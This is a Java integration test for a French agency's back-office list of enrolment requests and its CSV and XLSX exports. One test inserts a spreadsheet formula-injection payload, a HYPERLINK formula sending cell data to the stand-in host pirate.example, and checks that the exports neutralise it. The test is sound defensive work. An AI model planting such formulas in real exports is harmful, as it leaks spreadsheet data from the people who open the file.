package fr.asp.segur.system;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.util.List;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** The agents' list of requests and its CSV export, through HTTP as an agent sees them. */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class BackOfficeListIT {

    private static final String SIRET = "47992882200069";

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return Deployments.ear();
    }

    @ArquillianResource
    URL base;

    private static Connection db() throws Exception {
        return DriverManager.getConnection(System.getProperty("test.db.url"), System.getProperty("test.db.user"),
                System.getProperty("test.db.password"));
    }

    /** Three requests of one company, written directly: the list only reads them. */
    @BeforeAll
    static void requests() throws Exception {
        try (Connection c = db()) {
            for (int i = 0; i < 3; i++) {
                try (PreparedStatement ps = c.prepareStatement("insert into enrolment_request (request_number, status, "
                        + "submitted_at, version, referencing_number, software_name, software_version, dsr_label, siret, "
                        + "denomination, street_type, street_name, postal_code, city, distributor, editor_name, "
                        + "filer_is_representative, iban, bic, account_holder, bank_domiciliation, commitments_accepted_at) "
                        + "values (?, 'SOUMISE', current_timestamp, 1, 'aafy63256', 'MY RADIO RIS', '1.1', "
                        + "'Radiologie / RIS / Vague 1', ?, 'ASSOCIATION SERVICES MEDIATION', 'RUE', 'DE FIGUERAS', '13700', "
                        + "'ST VICTORET', false, 'ASSOCIATION SERVICES MEDIATION', true, 'FR7613135000800800267924623', "
                        + "'CEPAFRPP313', 'ASM', 'CE MID PYRENEES TOULOUSE', current_timestamp)")) {
                    ps.setString(1, "TST" + (System.nanoTime() % 1_000_000_000L));
                    ps.setString(2, SIRET);
                    ps.executeUpdate();
                }
            }
        }
    }

    @Test
    void anAgentSeesTheListAndExportsTheFilteredRowsAsCsv() throws Exception {
        WebClient agent = new WebClient(base.toString());
        HttpResponse<String> list = agent.loginThrough("backoffice/index.xhtml", "agent@asp-public.fr");
        assertEquals(200, list.statusCode());
        assertTrue(list.body().contains("Demandes d'enrôlement"), list.body());
        assertTrue(list.body().contains("demande(s)"), "the pager reports the total");
        assertTrue(list.body().contains("ui-sortable-column"), "the columns sort");
        assertFalse(list.body().contains("ui-column-filter"), "no filter box in the headers: the search form filters");

        HttpResponse<String> csv = agent.get("backoffice/export.csv?siret=" + SIRET + "&statut=SOUMISE");
        assertEquals(200, csv.statusCode());
        assertTrue(csv.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
        List<String> lines = csv.body().lines().toList();
        assertTrue(lines.get(0).contains("N° de demande;Déposée le;SIRET"), lines.get(0));
        long expected = count("select count(*) from enrolment_request where siret = '" + SIRET + "' and status = 'SOUMISE'");
        assertEquals(expected + 1, lines.size(), "one line per matching request, plus the header");
        assertTrue(lines.stream().skip(1).allMatch(l -> l.contains(SIRET)));
        assertTrue(count("select count(*) from audit_event where action = 'EXPORT_CSV' and actor = 'agent@asp-public.fr'") >= 1,
                "the export is audited");
    }

    /** A request whose dénomination a spreadsheet would run as a formula, as a hostile supplier could type it. */
    private static final String FORMULA_SIRET = "90681453800011";
    private static final String FORMULA = "=HYPERLINK(\"https://pirate.example/?d=\"&A1;\"Cliquez\")";

    @Test
    void aDenominationThatLooksLikeAFormulaIsExportedAsText() throws Exception {
        try (Connection c = db(); PreparedStatement ps = c.prepareStatement("insert into enrolment_request (request_number, "
                + "status, submitted_at, version, referencing_number, software_name, software_version, dsr_label, siret, "
                + "denomination, street_type, street_name, postal_code, city, distributor, editor_name, "
                + "filer_is_representative, iban, bic, account_holder, bank_domiciliation, commitments_accepted_at) "
                + "values (?, 'SOUMISE', current_timestamp, 1, 'aafy63256', '@SUM(1+1)', '1.1', "
                + "'Radiologie / RIS / Vague 1', ?, ?, 'RUE', 'DE FIGUERAS', '13700', "
                + "'ST VICTORET', false, '-2+3', true, 'FR7613135000800800267924623', "
                + "'CEPAFRPP313', 'ASM', 'CE MID PYRENEES TOULOUSE', current_timestamp)")) {
            ps.setString(1, "TSF" + (System.nanoTime() % 1_000_000_000L));
            ps.setString(2, FORMULA_SIRET);
            ps.setString(3, FORMULA);
            ps.executeUpdate();
        }
        WebClient agent = new WebClient(base.toString());
        agent.loginThrough("backoffice/index.xhtml", "agent@asp-public.fr");

        String csv = agent.get("backoffice/export.csv?siret=" + FORMULA_SIRET).body();
        // commons-csv quotes the cell (it holds quotes and a semicolon); inside, the apostrophe comes first.
        assertTrue(csv.contains(";\"'=HYPERLINK(\"\"https://pirate.example/"), csv);
        assertTrue(csv.contains(";'@SUM(1+1);"), csv);
        assertFalse(csv.contains(";\"=HYPERLINK") || csv.contains(";=HYPERLINK") || csv.contains(";@SUM"), csv);

        HttpResponse<byte[]> xlsx = agent.getBytes("backoffice/export.xlsx?siret=" + FORMULA_SIRET);
        Path file = Files.createTempFile("export", ".xlsx");
        Files.write(file, xlsx.body());
        StringBuilder sheet = new StringBuilder();
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
                if (entry.getName().startsWith("xl/worksheets/")) {
                    sheet.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        } finally {
            Files.delete(file);
        }
        // The apostrophe as the XML writes it (fastexcel escapes it).
        String text = sheet.toString().replace("&apos;", "'");
        assertTrue(text.contains("<is><t>'=HYPERLINK("), text);
        assertTrue(text.contains("<is><t>'@SUM(1+1)</t></is>"), text);
        assertFalse(sheet.indexOf("<f>") >= 0, "no formula in the sheet");
    }

    @Test
    void theSameRowsExportAsAnXlsxWorkbook() throws Exception {
        WebClient agent = new WebClient(base.toString());
        agent.loginThrough("backoffice/index.xhtml", "agent@asp-public.fr");
        HttpResponse<byte[]> xlsx = agent.getBytes("backoffice/export.xlsx?siret=" + SIRET);
        assertEquals(200, xlsx.statusCode());
        StringBuilder sheet = new StringBuilder();
        StringBuilder shared = new StringBuilder();
        Path file = Files.createTempFile("export", ".xlsx");
        Files.write(file, xlsx.body());
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
                String text = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
                if (entry.getName().startsWith("xl/worksheets/")) {
                    sheet.append(text);
                } else if (entry.getName().equals("xl/sharedStrings.xml")) {
                    shared.append(text);
                }
            }
        } finally {
            Files.delete(file);
        }
        assertTrue(shared.indexOf("SIRET") > 0, "the header's texts are in the shared strings");
        assertTrue(sheet.indexOf("<is><t>" + SIRET + "</t></is>") > 0,
                "the rows' values are inline strings in the sheet: " + sheet);
        assertFalse(shared.indexOf(SIRET) > 0, "not in the shared strings, which fastexcel holds in memory");
    }

    @Test
    void theListAndTheExportAreClosedToAnonymousVisitors() throws Exception {
        WebClient anonymous = new WebClient(base.toString());
        assertTrue(anonymous.get("backoffice/export.csv").body().contains("j_security_check"));
        assertTrue(anonymous.get("backoffice/index.xhtml").body().contains("j_security_check"));
    }

    private static long count(String sql) throws Exception {
        try (Connection c = db(); ResultSet rs = c.createStatement().executeQuery(sql)) {
            rs.next();
            return rs.getLong(1);
        }
    }
}
